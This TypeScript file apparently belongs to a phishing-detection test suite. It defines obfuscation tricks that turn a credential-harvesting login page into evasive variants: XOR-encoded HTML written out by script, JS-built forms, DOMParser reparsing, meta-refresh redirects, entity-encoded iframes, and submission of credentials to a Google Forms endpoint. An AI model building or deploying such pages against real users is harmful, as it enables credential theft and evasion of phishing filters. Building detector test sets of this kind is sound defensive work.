import type { PhishingPage } from "./phishing-page.ts"
import type { Trick } from "./phishing-tricks.ts"
import { documentOf, form, numericEntities, quoted, render, unitsOf } from "./render.ts"

const index = (html: string) => ({ "index.html": html })
const body = (page: PhishingPage) => page.top + form(page, `id="f" method="post"`) + page.foot

/** Written when the rules were done, and looked at once without a change of rules after it. */
export const laterTricks: Readonly<Record<string, Trick>> = {
  "key of three bytes": (page) => {
    const key = [17, 99, 203]
    const text = btoa(
      unitsOf(render(page))
        .map((unit, n) => String.fromCharCode((unit ^ (key[n % 3] ?? 0)) & 0xff))
        .join(""),
    )
    return index(
      `<script>const k=[${key.join()}];document.write([...atob("${text}")].map((c,i)=>String.fromCharCode(c.charCodeAt()^k[i%3])).join(""))</script>`,
    )
  },
  "elements of a library": (page) => ({
    "index.html": `<!doctype html><div id="root"></div><script type="module" src="./assets/app.js"></script>`,
    "assets/app.js": `import{e,r}from"./lib.js";const A=()=>e("main",null,e("h1",null,${quoted(page.words.heading.replace("{b}", page.brand.name))}),e("form",{onSubmit:s},e("input",{type:"text",name:"u",placeholder:${quoted(page.words.user)}}),e("input",{type:"password",name:"p",placeholder:${quoted(page.words.password)}}),e("button",null,${quoted(page.words.submit)})));function s(v){v.preventDefault();fetch("/x",{method:"POST",body:new FormData(v.target)})}r(A,"#root");`,
    "assets/lib.js": `export const e=(t,p,...c)=>({t,p,c});export const r=(a,s)=>{const n=document.querySelector(s);n.append(a())};`,
  }),
  "a parser of its own": (page) =>
    index(
      `<script>const d=new DOMParser().parseFromString(\`${render(page)
        .replaceAll("`", "")
        .replaceAll(
          "</script",
          String.raw`<\/script`,
        )}\`,"text/html");document.replaceChild(document.adoptNode(d.documentElement),document.documentElement)</script>`,
    ),
  "forms of a search engine": (page) =>
    index(
      render(page, {
        form: `action="https://docs.google.com/forms/d/e/1FAIpQL/formResponse" method="post" target="_blank"`,
      }),
    ),
  "a second page at once": (page) => ({
    "index.html": `<!doctype html><meta http-equiv="refresh" content="0; url=secure/index.html">`,
    "secure/index.html": documentOf(page, body(page)),
  }),
  "entities twice": (page) =>
    index(
      `<!doctype html><iframe srcdoc="${numericEntities(render(page).replaceAll(page.brand.name, numericEntities(page.brand.name)))}"></iframe>`,
    ),
}
